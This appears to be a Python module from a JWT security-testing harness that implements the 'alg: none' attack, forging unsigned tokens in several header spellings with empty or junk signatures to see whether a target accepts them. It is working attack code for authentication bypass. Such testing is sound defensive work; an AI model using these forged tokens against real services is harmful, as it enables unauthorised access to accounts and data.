"""`alg: none`: a token that says that it is not signed (RFC 7519 section 6, RFC 8725 3.1)."""

from __future__ import annotations

from typing import Any

from ..shop.jws import encode
from .forging import forge
from .target import Outcome, Target

NAME = "alg-none"
TITLE = "A token without a signature"
HOW = "The attacker writes alg none, in several spellings, and leaves the signature out."
SPELLINGS = ("none", "None", "NONE", "nOnE", "")


def run(target: Target) -> Outcome:
    """Try each spelling, with an empty signature and with one that is noise."""
    ways = [
        (f"alg {spelling!r}", lambda h, c, s=spelling, n=noise: _unsigned(h, c, s, n))
        for spelling in SPELLINGS
        for noise in ("", "AAAA")
    ]
    return forge(target, ways)


def _unsigned(header: dict[str, Any], claims: dict[str, Any], spelling: str, noise: str) -> str:
    return f"{encode(claims, {**header, 'alg': spelling})}.{noise}"
